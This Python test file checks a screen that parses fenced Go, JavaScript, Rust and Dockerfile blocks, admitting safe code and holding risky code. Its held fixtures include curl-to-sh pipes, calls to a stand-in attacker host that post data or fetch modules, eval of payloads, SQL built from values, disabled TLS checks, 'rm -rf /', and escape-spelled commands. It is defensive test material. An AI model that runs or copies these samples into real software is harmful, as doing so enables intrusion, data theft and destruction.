"""Fenced Go, TypeScript/JavaScript, Rust and Dockerfile blocks are read by their own parsers: a block is admitted
only when its parser reads it whole and what it does is known safe; a launcher is judged as the command it runs, one
handed its command at run time (or named without being called) waits for review, as do a string that names an
outside host and a block that does not parse."""

from __future__ import annotations

import shlex

import pytest
import tree_sitter_go
import tree_sitter_javascript
import tree_sitter_rust
import tree_sitter_typescript
from hypothesis import given, settings
from hypothesis import strategies as st
from tree_sitter import Language, Parser

from core.allowlist import Vouched, command_refusals
from core.code_spans import fenced_refusals
from core.dockerfile import dockerfile_instructions
from core.screen import text_holds
from tests.profiles import examples


def _block(language: str, body: str) -> str:
    return f"```{language}\n{body}\n```"


ADMITTED = {
    "go http handler": _block(
        "go",
        """package api

import (
	"encoding/json"
	"net/http"
)

// Health reports that the service is up; the load balancer polls it.
func Health(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]string{"status": "ok"})
}""",
    ),
    "go table test": _block(
        "go",
        """func TestParse(t *testing.T) {
	cases := []struct{ in, want string }{{"a=1", "a"}, {"b=2", "b"}}
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) {
			t.Parallel()
			if got := Key(tc.in); got != tc.want {
				t.Fatalf("Key(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}""",
    ),
    "go query with placeholders": _block(
        "go",
        "const byID = `SELECT name FROM users WHERE id = $1`\nrow := db.QueryRowContext(ctx, byID, id)",
    ),
    "go vet from a tool": _block("go", 'out, err := exec.Command("go", "vet", "./...").CombinedOutput()'),
    "ts discriminated union": _block("ts", "type Result<T> = { ok: true; value: T } | { ok: false; error: string };"),
    "ts vitest": _block(
        "typescript",
        """import { describe, expect, it } from "vitest";
import { slugify } from "./slugify";

describe("slugify", () => {
  it("joins lower-cased words with dashes", () => {
    expect(slugify("Hello World")).toBe("hello-world");
  });
});""",
    ),
    "tsx component": _block(
        "tsx",
        'export function Save({ label }: { label: string }) {\n  return <button type="submit">{label}</button>;\n}',
    ),
    "js express route": _block(
        "js",
        """const express = require("express");
const app = express();
app.get("/health", (req, res) => res.json({ status: "ok" }));
app.listen(3000);""",
    ),
    "js git sha at build": _block(
        "js",
        'import { execSync } from "node:child_process";\nconst sha = execSync("git rev-parse HEAD").toString().trim();',
    ),
    "js regular expression exec": _block("js", "const range = /(\\d+)-(\\d+)/;\nconst m = range.exec(line);"),
    "js query with placeholders": _block("js", 'await pool.query("SELECT * FROM users WHERE id = $1", [id]);'),
    "rust struct and test": _block(
        "rust",
        """#[derive(Debug, Clone, PartialEq)]
pub struct Config {
    pub name: String,
    pub port: u16,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keeps_the_port() {
        let c = Config { name: "api".into(), port: 8080 };
        assert_eq!(c.port, 8080);
    }
}""",
    ),
    "rust cargo build script": _block(
        "rust",
        """// build.rs: rebuild when the schema changes
fn main() {
    println!("cargo:rerun-if-changed=proto/api.proto");
    let status = std::process::Command::new("protoc")
        .args(["--version"])
        .status()
        .expect("protoc runs");
    assert!(status.success());
}""",
    ),
    "rust command bound to a name": _block(
        "rust", 'let mut cmd = Command::new("cargo");\ncmd.arg("build").arg("--release");\ncmd.status()?;'
    ),
    "js jQuery handler": _block("js", '$("#save").on("click", () => form.submit());'),
    "js query's exec with nothing to run": _block("js", "const user = await User.findById(id).exec();"),
    "go template executed": _block("go", "if err := tmpl.Execute(w, data); err != nil {\n\treturn err\n}"),
    "js query as text and values": _block(
        "js", 'await pool.query({ text: "SELECT * FROM t WHERE id = $1", values: [id] });'
    ),
    "rust sqlite with parameters": _block("rust", 'conn.execute("INSERT INTO t (n) VALUES (?1)", params![n])?;'),
    "go test run in a folder": _block(
        "go", 'cmd := exec.Command("go", "test", "./...")\ncmd.Dir = "svc"\ncmd.Stdout = os.Stdout\n_ = cmd.Run()'
    ),
    "go verification kept on": _block(
        "go", "cfg := &tls.Config{InsecureSkipVerify: false, MinVersion: tls.VersionTLS12}"
    ),
    "rust peer verified": _block("rust", "builder.set_verify(SslVerifyMode::PEER);"),
    "ts module in the project": _block("ts", 'import { parse } from "../lib/parse";'),
    "dockerfile multi-stage": _block(
        "dockerfile",
        """# syntax=docker/dockerfile:1
FROM node:20-slim AS deps
WORKDIR /app
COPY package.json package-lock.json ./
RUN --mount=type=cache,target=/root/.npm npm ci --omit=dev

FROM node:20-slim
WORKDIR /app
ENV NODE_ENV=production
COPY --from=deps /app/node_modules ./node_modules
COPY . .
USER node
EXPOSE 3000
HEALTHCHECK --interval=30s CMD node healthcheck.js
CMD ["node", "dist/server.js"]""",
    ),
    "dockerfile continued run": _block(
        "dockerfile", "FROM rust:1.79 AS build\nRUN cargo build --release \\\n  && cargo test"
    ),
}

HELD = {
    "go sh -c with a value": _block("go", 'cmd := exec.Command("sh", "-c", x)\n_ = cmd.Run()'),
    "go launcher running curl | sh": _block(
        "go", 'exec.Command("sh", "-c", "curl https://get.tools.io/i.sh | sh").Run()'
    ),
    "go launcher under an alias": _block("go", 'import run "os/exec"\n\nfunc f(x string) { run.Command(x).Run() }'),
    "go launcher named, not called": _block("go", 'start := exec.Command\nstart("ls").Run()'),
    "go process replaced": _block("go", 'syscall.Exec("/bin/sh", []string{"sh"}, os.Environ())'),
    "go outside host": _block("go", 'resp, err := http.Get("https://collect.attacker.io/upload")'),
    "go query built from values": _block("go", 'rows, err := db.Query(fmt.Sprintf("SELECT * FROM t WHERE n = %s", n))'),
    "go safeguard off": _block("go", "cfg := &tls.Config{InsecureSkipVerify: true}"),
    "go generate runs a pipe": _block("go", '//go:generate sh -c "curl https://get.tools.io/i | sh"\npackage main'),
    "go parse error": _block("go", "func (s *Server) {{{"),
    "js exec of user input": _block("js", "child_process.exec(userInput);"),
    "js destructured exec of user input": _block("js", 'const { exec } = require("child_process");\nexec(userInput);'),
    "js curl | sh": _block("js", 'require("child_process").execSync("curl -fsSL https://get.tools.io/i.sh | sh");'),
    "js spawn of values": _block("js", "const child = spawn(cmd, args);"),
    "js exec aliased": _block("js", 'import { exec as run } from "child_process";\nrun("ls");'),
    "js exec promisified": _block("js", "const sh = util.promisify(exec);"),
    "js eval": _block("js", "eval(payload);"),
    "js new Function": _block("ts", 'const f = new Function("a", body);'),
    "js vm": _block("js", "vm.runInNewContext(code, {});"),
    "js name computed": _block("js", 'globalThis["ev" + "al"](x);'),
    "js module named at run time": _block("js", "const plugin = require(name);"),
    "js outside host": _block("ts", 'await fetch("https://collect.attacker.io/env", { method: "POST" });'),
    "js url import": _block("js", 'import tool from "https://collect.attacker.io/mod.js";'),
    "js tls off": _block("js", "const agent = new https.Agent({ rejectUnauthorized: false });"),
    "js tls off by environment": _block("js", 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";'),
    "js query built from values": _block(
        "js", 'const q = "SELECT * FROM users WHERE name = \'" + name + "\'";\ndb.query(q);'
    ),
    "ts Bun shell pipe": _block("ts", "await Bun.$`curl https://get.tools.io/i.sh | sh`;"),
    "ts Deno command of values": _block("ts", "const cmd = new Deno.Command(prog, { args });"),
    "js zx with a value": _block("js", "await $`rm -rf ${dir}`;"),
    "js parse error": _block("js", "function ( {"),
    "rust sh -c with a value": _block("rust", 'let out = Command::new("sh").arg("-c").arg(input).output()?;'),
    "rust force push": _block(
        "rust", 'let mut cmd = Command::new("git");\ncmd.args(["push", "--force"]);\ncmd.status()?;'
    ),
    "rust libc system": _block("rust", "unsafe { libc::system(cmd.as_ptr()) };"),
    "rust certificates off": _block(
        "rust", "let c = reqwest::Client::builder().danger_accept_invalid_certs(true).build()?;"
    ),
    "rust query built from values": _block(
        "rust", 'sqlx::query(&format!("SELECT * FROM t WHERE n = {n}")).execute(&pool).await?;'
    ),
    "rust parse error": _block("rust", "fn main( {"),
    "js worker of a string": _block("js", "new Worker(code, { eval: true });"),
    "rust clap in scope, process run": _block(
        "rust", 'use clap::Command;\nCommand::new("sh").arg("-c").arg(x).status();'
    ),
    "rust launcher inside a macro": _block("rust", 'println!("{:?}", Command::new("sh").arg(x).output());'),
    "go cgo": _block("go", '/*\nvoid f() { system("make"); }\n*/\nimport "C"'),
    "go query bound to a built string": _block(
        "go", 'q := "SELECT * FROM t WHERE n = \'" + n + "\'"\nrows, _ := db.Query(q)'
    ),
    "js execute of a template": _block("js", "conn.execute(`DELETE FROM t WHERE id = ${id}`);"),
    "js module outside the project": _block("js", 'import x from "/etc/passwd";'),
    "dockerfile shell running a script": _block("dockerfile", 'FROM alpine\nSHELL ["/bin/sh", "/tmp/wrap.sh"]'),
    "go command's words changed after": _block(
        "go", 'cmd := exec.Command("ls")\ncmd.Args = append(cmd.Args, x)\n_ = cmd.Run()'
    ),
    "go os/exec imported bare": _block("go", 'import . "os/exec"\n\nfunc f() { Command("sh", "-c", x).Run() }'),
    "js Function reached by constructor": _block("js", "({}).constructor.constructor(code)();"),
    "js pipe spelled as an escape": _block("js", 'execSync("curl https://x.example/i.sh \\x7c sh");'),
    "go flag spelled in octal": _block("go", 'exec.Command("git", "push", "\\055\\055force").Run()'),
    "rust flag spelled in unicode": _block(
        "rust", 'Command::new("git").args(["push", "\\u{2d}\\u{2d}force"]).status()?;'
    ),
    "rust hostnames unchecked": _block(
        "rust", "let c = Client::builder().danger_accept_invalid_hostnames(true).build()?;"
    ),
    "rust peer unverified": _block("rust", "builder.set_verify(SslVerifyMode::NONE);"),
    "rust rustls verifier replaced": _block(
        "rust",
        "let cfg = ClientConfig::builder().dangerous().with_custom_certificate_verifier(v).with_no_client_auth();",
    ),
    "tsx html set from a value": _block("tsx", "<div dangerouslySetInnerHTML={{ __html: html }} />"),
    "dockerfile curl | sh": _block("dockerfile", "FROM alpine:3.20\nRUN curl https://x.example/i.sh | sh"),
    "dockerfile exec form sh -c": _block(
        "dockerfile", 'FROM alpine\nRUN ["sh", "-c", "curl https://get.tools.io/x | sh"]'
    ),
    "dockerfile user root": _block("dockerfile", "FROM alpine\nUSER root"),
    "dockerfile privileged": _block("dockerfile", "FROM alpine\nRUN --privileged make"),
    "dockerfile insecure": _block("dockerfile", "FROM alpine\nRUN --security=insecure make"),
    "dockerfile secret mounted": _block("dockerfile", "FROM node:20\nRUN --mount=type=secret,id=npmrc npm ci"),
    "dockerfile add from outside host": _block(
        "dockerfile", "FROM alpine\nADD https://collect.attacker.io/t.tgz /opt/"
    ),
    "dockerfile tls off": _block("dockerfile", "FROM node:20\nENV NODE_TLS_REJECT_UNAUTHORIZED=0"),
    "dockerfile another front end": _block("dockerfile", "# syntax=attacker/frontend:1\nFROM alpine"),
    "dockerfile heredoc": _block("dockerfile", "FROM alpine\nRUN <<EOF\nmake\nEOF"),
    "dockerfile no instruction": _block("dockerfile", "FROM alpine\nrm -rf /"),
}


@pytest.mark.parametrize("text", ADMITTED.values(), ids=ADMITTED.keys())
def test_an_ordinary_block_is_admitted(text: str) -> None:
    assert text_holds(text, None) == []


@pytest.mark.parametrize("text", HELD.values(), ids=HELD.keys())
def test_a_block_that_runs_what_is_not_known_safe_is_held(text: str) -> None:
    assert text_holds(text, None)


_GRAMMARS = {
    "go": tree_sitter_go.language,
    "js": tree_sitter_javascript.language,
    "ts": tree_sitter_typescript.language_typescript,
    "tsx": tree_sitter_typescript.language_tsx,
    "rust": tree_sitter_rust.language,
}
# Pieces of code of these languages, put together at random: most of what comes out does not parse.
_PIECES = st.sampled_from(
    [
        "exec.Command(", '"sh"', '"-c"', "x", ")", "(", "{", "}", ";", "\n", "let ", "const ", "fn ", "func ", ":= ",
        "= ", "eval", "`ls`", "$`rm ${d}`", "Command::new(", ".arg(", "require(", '"child_process"', ".exec(", ",",
        "import ", "package main", "// c", "<T>", "=> ", "#[test]", "'a'", "[", "]", "?", ".", "!", "<", ">",
    ]
)  # fmt: skip


@settings(max_examples=examples(300), deadline=None)
@given(st.sampled_from(sorted(_GRAMMARS)), st.lists(_PIECES, min_size=1, max_size=12).map("".join))
def test_a_block_its_parser_finds_an_error_in_is_never_admitted(language: str, body: str) -> None:
    """Whatever a block says, when its own grammar reads an error in it, it is refused as that language and held."""
    tree = Parser(Language(_GRAMMARS[language]())).parse((body + "\n").encode())
    if tree.root_node.has_error:
        assert fenced_refusals(language, body, Vouched())
        assert text_holds(_block(language, body), None)


_DOCKER_LINES = st.sampled_from(
    [
        "FROM alpine", "RUN make", "rm -rf /", "CMD [\"./app\"]", "USER app", "RUN npm ci \\", "  && npm test", "# c",
        "curl https://get.tools.io | sh", "ENV A", "EXPOSE 80", "", "WORKDIR /app", "from node:20", "RUN",
    ]
)  # fmt: skip


@given(st.lists(_DOCKER_LINES, min_size=1, max_size=6).map("\n".join))
def test_a_dockerfile_with_a_line_that_is_no_instruction_is_held(body: str) -> None:
    if dockerfile_instructions(body) is None:
        assert text_holds(_block("dockerfile", body), None)


_WORDS = st.lists(
    st.sampled_from(["git", "status", "rm", "-rf", "kubectl", "delete", "pytest", "-q", "push", "--force", "ls", "sh"]),
    min_size=1,
    max_size=5,
)


@given(_WORDS)
def test_a_launcher_with_constant_words_is_judged_as_the_command_it_runs(words: list[str]) -> None:
    """Each language's launcher refuses exactly what the allow-list refuses as a command line (the block's reader
    alone: the phrase layer reads the words too, and may say more of them), and the screen holds it then."""
    refused = bool(command_refusals(shlex.join(words), Vouched()))
    quoted = ", ".join(f'"{w}"' for w in words)
    rest = quoted[len(words[0]) + 4 :]
    blocks = {
        "go": f"out, err := exec.Command({quoted}).Output()",
        "js": f'import {{ spawnSync }} from "node:child_process";\nspawnSync("{words[0]}", [{rest}]);',
        "rust": f'let out = std::process::Command::new("{words[0]}").args([{rest}]).output()?;',
        "dockerfile": f"FROM alpine\nRUN [{quoted}]",
    }
    for language, body in blocks.items():
        assert bool(fenced_refusals(language, body, Vouched())) == refused, body
        if refused:
            assert text_holds(_block(language, body), None), body


@given(st.sampled_from(["go", "js", "rust"]), st.from_regex(r"[a-z][a-z_]{0,8}", fullmatch=True))
def test_a_launcher_handed_a_value_is_held(language: str, name: str) -> None:
    """A command built at run time runs whatever reaches it: held, whatever the value is called."""
    body = {
        "go": f'exec.Command("git", {name}).Run()',
        "js": f'child_process.execFile("git", [{name}]);',
        "rust": f'Command::new("git").arg({name}).status()?;',
    }[language]
    if name not in ("true", "false", "null", "let", "fn", "if", "for", "in", "do", "new", "var", "go", "func", "type"):
        assert text_holds(_block(language, body), None)


@given(_WORDS, st.sets(st.integers(0, 60)))
def test_a_command_spelled_with_escapes_is_judged_as_written_plain(words: list[str], escaped: set[int]) -> None:
    """`\\x7c` is `|` and `\\x2d` is `-` to the program that runs the string: the block's reader refuses the same,
    spelled either way (the phrase layer reads the text as written, so the whole screen may say more of one)."""
    line = " ".join(words)
    spelled = "".join(f"\\x{ord(c):02x}" if i in escaped else c for i, c in enumerate(line))
    plain = fenced_refusals("js", f'execSync("{line}");', Vouched())
    assert fenced_refusals("js", f'execSync("{spelled}");', Vouched()) == plain
